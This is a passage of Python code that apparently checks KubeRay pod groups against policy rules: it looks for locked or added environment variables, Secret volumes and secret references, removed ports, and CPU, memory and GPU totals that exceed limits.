    env_vars = dict(runtime.get("env_vars") or {})
    for group in [g for g in groups if not g.kuberays_own]:
        env = {**_user_env(_main(group)), **env_vars}  # Ray sets env_vars over the pod's
        if len(path) == 3:
            name = path[2]
            value = env.get(name)
            if rule.get("canEdit") is False:
                expected = _default(policies, policy, ["env", name])
                if value != expected:
                    out.append(
                        f"{group.name}: env {name}={value!r}, the locked default is {expected!r}"
                    )
            if rule.get("canRemove") is False and name in defaults and name not in env:
                out.append(f"{group.name}: env {name} removed")
            if isinstance(value, dict) and any(key in rule for key in VALUE_RULES):
                out.append(f"{group.name}: env {name} is a Secret reference under a value rule")
            elif value is not None:
                out += _scalar_problems(rule, value, f"{group.name} env {name}")
        elif path == ["spec", "env"] and rule.get("canAdd") is False:
            extra = sorted(set(env) - set(defaults))
            if extra:
                out.append(f"{group.name}: env {extra} added under canAdd: false")
        elif path == ["spec", "env", "*", "value"]:
            for name, value in env.items():
                if isinstance(value, str):
                    out += _scalar_problems(rule, value, f"{group.name} env {name}")
    return out


def _secret_volumes(pod: dict) -> dict:
    return {
        v["name"]: v["secret"].get("secretName") for v in pod.get("volumes") or [] if "secret" in v
    }


def _env_secrets(pod: dict) -> set:
    """The Secrets the containers' env references read."""
    return {
        ((e.get("valueFrom") or {}).get("secretKeyRef") or {}).get("name")
        for container in _containers(pod)
        for e in container.get("env") or []
        if ((e.get("valueFrom") or {}).get("secretKeyRef") or {}).get("name")
    }


def _judge_secrets(path, rule, policies, groups) -> list[str]:
    out = []
    defaults = {}
    for other in policies:
        defaults.update(_default([other], other, ["secrets"]) or {})
    wanted = {f"secret-{label}".lower() for label in defaults}
    default_names = {m.get("secretName") for m in defaults.values() if isinstance(m, dict)}
    for group in [g for g in groups if not g.kuberays_own]:
        volumes = _secret_volumes(group.pod)
        read = _env_secrets(group.pod)
        locked = len(path) == 3 and rule.get("canRemove") is False and path[2] in defaults
        if locked and f"secret-{path[2]}".lower() not in volumes:
            out.append(f"{group.name}: secret {path[2]} removed")
        if path == ["spec", "secrets"] and rule.get("canAdd") is False:
            extra = sorted(set(volumes) - wanted)
            if extra:
                out.append(f"{group.name}: secret volumes {extra} added under canAdd: false")
            if read - default_names:
                out.append(f"{group.name}: env reads Secrets {sorted(read - default_names)}")
        if path == ["spec", "secrets"] and rule.get("forbidden"):
            extra = sorted(set(volumes) - wanted)
            if extra or read - default_names:
                out.append(f"{group.name}: Secrets {extra} {sorted(read)} under forbidden")
        if path == ["spec", "secrets", "*", "secretName"]:
            for name in sorted(set(volumes.values()) | read):
                out += _scalar_problems(rule, name, f"{group.name} Secret")
    return out


def _judge_ports(path, rule, policies, groups) -> list[str]:
    out = []
    defaults = {}
    for other in policies:
        defaults.update(_default([other], other, ["ports"]) or {})
    named = {}
    for group in groups:
        for container in _containers(group.pod):
            for port in container.get("ports") or []:
                named[port.get("name")] = port
    if path == ["spec", "ports", "*", "container"]:
        for name, port in named.items():
            out += _scalar_problems(rule, port["containerPort"], f"port {name}")
    locked = len(path) == 3 and rule.get("canRemove") is False and path[2] in defaults
    if locked and path[2] not in named:
        out.append(f"port {path[2]} removed")
    return out


def _limits(limits: dict, groups: list[Group]) -> list[str]:
    if not limits:
        return []
    totals = {"pods": 0, "cpus": 0.0, "memoryGB": 0.0, "gpus": 0}
    for group in groups:
        totals["pods"] += group.pods
        for container in _containers(group.pod):
            resources = container.get("resources") or {}
            requests = resources.get("requests") or {}
            totals["cpus"] += group.pods * parse_cpu(requests.get("cpu", 0))
            totals["memoryGB"] += group.pods * parse_bytes(requests.get("memory", 0)) / 2**30
            totals["gpus"] += group.pods * int(
                (resources.get("limits") or {}).get("nvidia.com/gpu", 0)
            )
    return [
        f"total {name} {totals[name]} above the limit {limit}"
        for name, limit in limits.items()
        if totals[name] > limit + 1e-9
    ]
